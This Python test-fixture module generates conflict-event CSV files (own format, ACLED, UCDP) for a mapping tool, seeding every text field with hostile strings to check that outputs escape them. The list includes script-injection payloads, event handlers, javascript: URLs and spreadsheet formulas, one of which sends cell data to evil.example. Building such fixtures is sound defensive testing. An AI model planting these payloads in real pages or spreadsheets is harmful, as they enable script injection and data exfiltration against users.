"""A corpus of hostile text, and records of every kind (own notes, ACLED, UCDP) that carry
it in every text field, for the tests that check every output.

Each string tries one way out of its context: markup in HTML, the end of an inline
script, an event handler, a script URL, the line separators that once ended a
JavaScript string, quotes and template backticks, spreadsheet formulas, and control
characters XML does not allow. A string
that runs sets ``window.__pwned``.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

HOSTILE = [
    "<script>window.__pwned=1</script>",
    "</script><script>window.__pwned=2</script>",
    '<img src=x onerror="window.__pwned=3">',
    "javascript:window.__pwned=4",
    "line\u2028sep\u2029para",
    "q' \" `${window.__pwned=5}`",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1)",
    "-2+3",
    "@cmd",
    '<a href="javascript:window.__pwned=6">x</a>',
    "a&amp;b &lt;i&gt; \\u003cb\\u003e",
    "bell\x07 vt\x0b nul-free controls",  # not allowed in XML 1.0
]
CONTROLS = HOSTILE[-1]
FORMULA_STARTS = ("=", "+", "-", "@")
PLACES = [  # real places of the default example, so every record is placed by its point
    ("Djibo", 14.0986, -1.6267), ("Diapaga", 12.0706, 1.7889), ("Dédougou", 12.4634, -3.4607),
    ("Boulikessi", 14.2067, -1.3133), ("Aribinda", 14.2296, -0.8654), ("Tougan", 13.0686, -3.0694),
]


def text(row: int, field: int) -> str:
    """The hostile string for a row and field: across rows every field gets each one."""
    return HOSTILE[(row + field) % len(HOSTILE)]


def _write(path: Path, header: list[str], rows: list[dict]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, header)
        writer.writeheader()
        writer.writerows(rows)
    return path


def notes_files(folder: Path) -> list[Path]:
    """events, claims and movements in sahelmap's own format: every free-text field hostile
    (the record kept), and one row of each with a hostile id and actor (rejected, reported)."""
    n = len(HOSTILE)
    events, claims, moves = [], [], []
    for i in range(n):
        place, lat, lon = PLACES[i % len(PLACES)]
        day = f"2025-0{4 + i % 2}-{10 + i:02d}"
        shared = {"record_id": f"{i}", "date_start": day, "date_precision": "day",
                  "actor": "jnim", "confidence": ["reported", "claimed", "corroborated"][i % 3],
                  "source": text(i, 0), "notes": text(i, 1)}
        spot = {"place_name": text(i, 2), "country": "BFA", "admin1": text(i, 3),
                "within": text(i, 4), "latitude": lat, "longitude": lon}
        events.append({**shared, **spot, "record_id": f"e-{i}", "opponent": "mil_bfa", "event_type": "attack",
                       "fatalities": i})
        claims.append({**shared, **spot, "record_id": f"c-{i}", "status": "present"})
        moves.append({**shared, "record_id": f"m-{i}", "kind": "movement", "origin": place, "origin_country": "BFA",
                      "destination": PLACES[(i + 1) % len(PLACES)][0],
                      "destination_country": "BFA", "size": text(i, 5)})
    for rows in (events, claims, moves):
        rows.append({**rows[0], "record_id": HOSTILE[0], "actor": HOSTILE[2]})
    moves.append({**moves[0], "record_id": "m-unplaced", "origin": HOSTILE[1]})
    common = ["record_id", "date_start", "date_end", "date_precision", "actor", "confidence",
              "source", "notes"]
    spot = ["place_name", "country", "admin1", "within", "latitude", "longitude"]
    return [
        _write(folder / "events.csv", common + ["opponent", "event_type", "fatalities"] + spot,
               events),
        _write(folder / "claims.csv", common + ["status"] + spot, claims),
        _write(folder / "movements.csv", common + ["kind", "origin", "origin_country",
                                                    "destination", "destination_country",
                                                    "size"], moves)]


ACLED = ["event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type",
         "sub_event_type", "actor1", "assoc_actor_1", "inter1", "actor2", "assoc_actor_2",
         "inter2", "interaction", "civilian_targeting", "iso", "region", "country", "admin1",
         "admin2", "admin3", "location", "latitude", "longitude", "geo_precision", "source",
         "source_scale", "notes", "fatalities", "tags", "timestamp"]


def acled_file(folder: Path) -> Path:
    rows = []
    for i in range(len(HOSTILE)):
        _, lat, lon = PLACES[i % len(PLACES)]
        rows.append({
            "event_id_cnty": f"BFA99{i:03d}", "event_date": f"2025-06-{10 + i:02d}", "year": 2025,
            "time_precision": 1, "disorder_type": "Political violence",
            "event_type": "Violence against civilians", "sub_event_type": "Attack",
            # the first rows name a group sahelmap does not know: a hostile actor
            "actor1": text(i, 0) if i < 2 else "JNIM: Group for Support of Islam and Muslims",
            "assoc_actor_1": text(i, 1), "inter1": "Rebel group", "actor2": text(i, 2),
            "assoc_actor_2": text(i, 3), "inter2": "Civilians", "interaction": text(i, 4),
            "civilian_targeting": "Civilian targeting", "iso": 854, "region": "Western Africa",
            "country": "Burkina Faso", "admin1": text(i, 5), "admin2": text(i, 6),
            "admin3": text(i, 7), "location": text(i, 8), "latitude": lat, "longitude": lon,
            "geo_precision": 1, "source": text(i, 9), "source_scale": text(i, 10),
            "notes": text(i, 11), "fatalities": i % 4, "tags": text(i, 12),
            "timestamp": 1747000000})
    return _write(folder / "acled_hostile.csv", ACLED, rows)


UCDP = ["id", "relid", "year", "active_year", "type_of_violence", "conflict_new_id",
        "dyad_new_id", "side_a", "side_b", "source_article", "source_office", "source_date",
        "source_headline", "where_prec", "where_coordinates", "adm_1", "adm_2", "latitude",
        "longitude", "country", "region", "event_clarity", "date_prec", "date_start", "date_end",
        "deaths_a", "deaths_b", "deaths_civilians", "deaths_unknown", "best", "high", "low"]


def ucdp_file(folder: Path) -> Path:
    rows = []
    for i in range(len(HOSTILE)):
        _, lat, lon = PLACES[i % len(PLACES)]
        day = f"2025-03-{10 + i:02d} 00:00:00.000"
        rows.append({
            "id": 600000 + i, "relid": text(i, 0), "year": 2025, "active_year": 1,
            "type_of_violence": 1, "conflict_new_id": 11347, "dyad_new_id": 14920,
            "side_a": "Government of Burkina Faso", "side_b": text(i, 1) if i < 2 else "JNIM",
            "source_article": text(i, 2), "source_office": text(i, 3),
            "source_date": "2025-04-20", "source_headline": text(i, 4), "where_prec": 1,
            "where_coordinates": text(i, 5), "adm_1": text(i, 6), "adm_2": text(i, 7),
            "latitude": lat, "longitude": lon, "country": "Burkina Faso", "region": "Africa",
            "event_clarity": 1, "date_prec": 1, "date_start": day, "date_end": day,
            "deaths_a": 1, "deaths_b": 1, "deaths_civilians": 0, "deaths_unknown": 0,
            "best": 2, "high": 3, "low": 2})
    return _write(folder / "ucdp_hostile.csv", UCDP, rows)


def hostile_geodata(source: Path, folder: Path) -> Path:
    """A copy of the reference data whose groups have hostile display names (actors.csv
    is a file users edit)."""
    target = folder / "geodata"
    shutil.copytree(source, target, ignore=shutil.ignore_patterns("records"))
    path = target / "actors.csv"
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
        header = list(rows[0])
    names = {"jnim": HOSTILE[0], "isgs": HOSTILE[2], "mil_bfa": CONTROLS}
    for row in rows:
        if row["actor_id"] in names:
            row["display_name"] = f"{row['actor_id']} {names[row['actor_id']]}"
    _write(path, header, rows)
    return target
